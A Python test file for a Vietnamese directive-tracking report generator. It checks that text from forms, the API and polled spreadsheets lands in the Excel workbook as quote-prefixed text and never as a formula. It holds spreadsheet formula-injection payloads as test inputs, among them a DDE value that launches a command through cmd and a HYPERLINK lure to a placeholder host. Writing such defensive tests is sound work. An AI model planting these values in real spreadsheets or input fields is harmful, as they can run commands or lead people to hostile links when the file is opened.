"""Formula injection (issue 12 item 1): text from outside lands in the report's workbook as text, never a formula.

An agency's document number or note, an extension's reason or approver, a reporter's name come from
forms, the API and polled spreadsheets. A value such as =HYPERLINK(…) or =cmd|' /C calc'!A0 must
show as written and must not run when the workbook is opened or the cell is edited.
"""

from __future__ import annotations

from datetime import date, time
from pathlib import Path

from openpyxl import load_workbook

from config.settings import get_settings
from domain.planner import at_local
from models.db import session_scope
from tasks.extensions import apply_extension
from tasks.reporting import build
from tasks.reporting.documents import write_all
from tasks.status_recording import record_status_update
from tests import report_scenario
from tests.report_scenario import NUMBER, assignment_id

HYPERLINK = '=HYPERLINK("http://x/"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
REASON = "+SUM(1,2)"
APPROVER = "@Trưởng ban"
REPORTER = "-2+3"


def test_outside_text_is_written_as_text_in_every_sheet(db, tmp_path: Path) -> None:
    report_scenario.build(tmp_path, until=at_local(date(2022, 11, 30), time(8)))
    # Sở NN&PTNT on directive 2 is overdue at the Q4 cut-off: its row is in Chi tiết, Quá hạn and Cập nhật mới.
    with session_scope() as session:
        record_status_update(
            assignment_id("2", "SO_NNPTNT"),
            session=session,
            status="in_progress",
            percent=70,
            note=DDE,
            document_number=HYPERLINK,
            reported_by=REPORTER,
            source="test",
            at=at_local(date(2022, 12, 1), time(9)),
        )
    with session_scope() as session:
        apply_extension(
            assignment_id("2", "LMHTX"),
            session=session,
            until=date(2023, 1, 31),
            reason=REASON,
            requested_by=REPORTER,
            approved_by=APPROVER,
            at=at_local(date(2022, 12, 2), time(9)),
        )
    settings = get_settings()
    config = build.load_report_config(settings.config_dir, settings.enabled_channels)
    made = at_local(date(2022, 12, 20), time(8))
    with session_scope(read_only=True) as session:
        scope = build.resolve_scope(NUMBER, session=session)
        (period,) = build.resolve("2022-Q4", made, config)
        built = build.make_report(scope, period, made, config, session=session)
    xlsx = write_all(built.meta, built.model, tmp_path / "out")[1]

    wb = load_workbook(xlsx)
    formulas = [
        (ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    found: dict[str, set[tuple[str, str]]] = {}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in (HYPERLINK, DDE, REASON, APPROVER):
                    # Shown exactly as written, stored as a string, and quote-prefixed so an edit keeps it text.
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    found.setdefault(ws.title, set()).add(cell.value)
    assert found == {
        "Chi tiết": {HYPERLINK},
        "Quá hạn": {HYPERLINK},
        "Cập nhật mới": {HYPERLINK, DDE},
        "Gia hạn": {REASON, APPROVER},
    }
